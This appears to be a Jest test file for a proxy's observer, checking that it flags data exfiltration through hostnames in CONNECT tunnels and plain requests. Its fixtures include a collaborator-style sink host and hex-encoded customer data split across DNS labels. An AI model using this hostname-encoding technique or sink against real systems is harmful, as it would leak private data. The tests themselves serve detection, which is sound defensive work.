import { afterEach, beforeEach, describe, expect, test } from '@jest/globals';
import { randomBytes } from 'node:crypto';
import { displayDest } from '../../src/findings/display-dest.js';
import type { FindingDraft } from '../../src/findings/finding.js';
import { Observer } from '../../src/observe/observer.js';
import { until } from '../support/guardian.js';
import { startTestProxy, type TestProxy, type TestProxyOptions } from '../support/proxy.js';
import { RawClient, startRawOrigin, type RawOrigin } from '../support/raw.js';

/** "The customer's name is", as somebody's name server would be asked for it. */
const DATA = '54686520637573746f6d65722773206e616d65206973';
const ENCODED = `${DATA}.stranger.test`;
const SINK = 'k3jq81mzp0.oastify.com';
const OK = 'HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nok';

describe('the name of a host says enough, whatever becomes of the connection', () => {
  const drafts: FindingDraft[] = [];
  let observer: Observer;
  let origin: RawOrigin;
  let proxy: TestProxy | undefined;
  let client: RawClient | undefined;

  beforeEach(async () => {
    drafts.length = 0;
    observer = new Observer({
      program: new URL('../../src/sidecar/observer-program.js', import.meta.url),
      programData: { fingerprintKey: randomBytes(32), findingKey: randomBytes(32), maxScanBytes: 1024 * 1024 },
      ringBytes: 1024 * 1024,
      stalledAfterMs: 5_000,
      onMessage: (message) => void drafts.push(...(message as FindingDraft[])),
      onFlowClosed: () => undefined,
      onEvent: () => undefined,
    });
    await observer.start();
    origin = await startRawOrigin((socket, heard) => {
      if (heard.toString('latin1').endsWith('\r\n\r\n')) socket.write(OK);
    });
  });

  afterEach(async () => {
    client?.socket.destroy();
    await proxy?.close();
    await observer.stop(2_000);
    await origin.close();
  });

  /** A proxy for which every name stands for this machine, and only the origin may be reached on it. */
  async function start(options: Partial<TestProxyOptions> = {}): Promise<void> {
    proxy = await startTestProxy({
      inspect: true,
      allow: [`127.0.0.1:${origin.port}`],
      lookUp: async () => [{ address: '127.0.0.1', family: 4 }],
      tap: observer,
      ...options,
    });
  }

  /** Asks for a tunnel and says something that is no HTTP in it. */
  async function tunnelTo(authority: string): Promise<string> {
    const asking = (client = new RawClient(proxy!.port));
    asking.write(`CONNECT ${authority} HTTP/1.1\r\nHost: ${authority}\r\n${credential()}\r\n`);
    await until(
      async () => asking.text,
      (text) => text.includes('\r\n\r\n') || asking.closed,
    );
    if (asking.text.includes(' 200 ')) asking.write('\x00\x01 no protocol that is known\r\n\r\n');
    return asking.text.slice(9, 12);
  }

  function credential(): string {
    const { username, password } = new URL(proxy!.url);
    return `Proxy-Authorization: Basic ${Buffer.from(`${username}:${password}`).toString('base64')}\r\n`;
  }

  /** Everything that is found, once the observer has looked at what it was given. */
  async function found(): Promise<string[]> {
    await until(
      async () => drafts.length,
      (count) => count > 0,
    );
    client?.socket.destroy();
    await observer.stop(5_000);
    return drafts.map(({ pattern, dest, location }) => `${pattern} ${dest} ${location}`);
  }

  test('in a tunnel that is never opened', async () => {
    await start({ tunnelHosts: [SINK] });
    expect(await tunnelTo(`${SINK}:${origin.port}`)).toBe('200');
    expect(await found()).toEqual([`exfil_sink ${SINK}:${origin.port} url`]);
  });

  test('in a tunnel to a host that a client has pinned', async () => {
    await start();
    proxy!.policy.clientRefused('tester', { host: ENCODED, port: origin.port }, 'closed');
    expect(await tunnelTo(`${ENCODED}:${origin.port}`)).toBe('200');
    expect(await found()).toEqual([`encoded_exfil ${displayDest(ENCODED, origin.port)} url`]);
  });

  test('in a tunnel with neither TLS nor HTTP in it', async () => {
    await start();
    expect(await tunnelTo(`${ENCODED}:${origin.port}`)).toBe('200');
    expect(await found()).toEqual([`encoded_exfil ${displayDest(ENCODED, origin.port)} url`]);
  });

  test('when there is no such host', async () => {
    await start({ lookUp: () => Promise.reject(Object.assign(new Error('no such host'), { code: 'ENOTFOUND' })) });
    await tunnelTo(`${ENCODED}:443`);
    expect(await found()).toEqual([`encoded_exfil ${displayDest(ENCODED, 443)} url`]);
  });

  test('when the destination is refused', async () => {
    await start();
    expect(await tunnelTo(`${SINK}:1`)).toBe('403');
    expect(await found()).toEqual([`exfil_sink ${SINK}:1 url`]);
  });

  test('when a plain request cannot be sent on', async () => {
    await start({ lookUp: () => Promise.reject(Object.assign(new Error('no such host'), { code: 'ENOTFOUND' })) });
    await requestPlain(`http://${ENCODED}/`, 1);
    expect(await found()).toEqual([`encoded_exfil ${displayDest(ENCODED, 80)} url`]);
  });

  test('once for a connection, however many requests repeat it', async () => {
    await start();
    await requestPlain(`http://${SINK}:${origin.port}/`, 3);
    expect(await found()).toEqual([`exfil_sink ${SINK}:${origin.port} url`]);
  });

  test('when data is spread over several labels', async () => {
    await start({ lookUp: () => Promise.reject(Object.assign(new Error('no such host'), { code: 'ENOTFOUND' })) });
    const labels = `${DATA.slice(0, 22)}.${DATA.slice(22)}.stranger.test`;
    await tunnelTo(`${labels}:443`);
    expect(await found()).toEqual([`encoded_exfil ${displayDest(labels, 443)} url`]);
  });

  async function requestPlain(url: string, times: number): Promise<void> {
    const asking = (client = new RawClient(proxy!.port));
    for (let i = 1; i <= times; i++) {
      asking.write(`GET ${url} HTTP/1.1\r\nHost: ${new URL(url).host}\r\n${credential()}\r\n`);
      await until(
        async () => asking.text.split('HTTP/1.1 ').length - 1,
        (answers) => answers >= i || asking.closed,
      );
    }
  }
});
